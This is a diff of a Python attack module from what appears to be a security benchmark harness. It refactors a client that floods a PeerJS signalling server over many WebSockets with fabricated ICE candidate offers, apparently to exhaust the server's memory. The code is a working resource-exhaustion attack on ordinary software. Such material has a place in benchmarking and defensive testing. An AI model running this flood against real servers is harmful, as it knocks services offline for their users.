@@ -6,11 +6,12 @@ for everybody else, and 63 -> 220 MB.
 """
 
 from collections import Counter
+from functools import partial
 
 import trio
 
 from bench.attack.harness import Report
-from bench.attack.tools import ATTACKERS, RefusedError, Target, WebSocket, frame, open_websocket
+from bench.attack.tools import ATTACKERS, Target, WebSocket, crowd, frame, open_websocket
 
 NUMBER = "12.5"
 SHORT = 7.0  # the first messages expire after 5 s
@@ -20,27 +21,19 @@ _PAYLOAD = "candidate:842163049 1 udp 1677729535 192.0.2.7 52341 typ srflx raddr
 
 
 async def attack(target: Target, seconds: float) -> dict[str, int]:
-    counts = Counter[str]()
-    with trio.move_on_after(seconds):
-        async with trio.open_nursery() as nursery:
-            for number in range(_CLIENTS):
-                nursery.start_soon(_client, target, number, counts)
-    return dict(counts)
+    return await crowd(_CLIENTS, seconds, partial(_offer_all, target))
 
 
-async def _client(target: Target, number: int, counts: Counter[str]) -> None:
+async def _offer_all(target: Target, number: int, counts: Counter[str]) -> None:
     path = f"/peerjs?key=peerjs&id=attacker-{number}&token=t"
-    try:
-        async with await open_websocket(target, ATTACKERS[0], path) as socket, trio.open_nursery() as nursery:
-            counts["clients"] += 1
-            nursery.start_soon(_hear, socket, counts)
-            began = trio.current_time()
-            for sent in range(0, 1 << 30, _EACH):
-                await trio.sleep_until(began + sent / _RATE)
-                await socket.send(b"".join(_offer(number, sent + at) for at in range(_EACH)))
-                counts["sent"] += _EACH
-    except* (OSError, RefusedError, trio.BrokenResourceError):
-        counts["closed"] += 1
+    async with await open_websocket(target, ATTACKERS[0], path) as socket, trio.open_nursery() as nursery:
+        counts["clients"] += 1
+        nursery.start_soon(_hear, socket, counts)
+        began = trio.current_time()
+        for sent in range(0, 1 << 30, _EACH):
+            await trio.sleep_until(began + sent / _RATE)
+            await socket.send(b"".join(_offer(number, sent + at) for at in range(_EACH)))
+            counts["sent"] += _EACH
 
 
 def _offer(number: int, at: int) -> bytes:
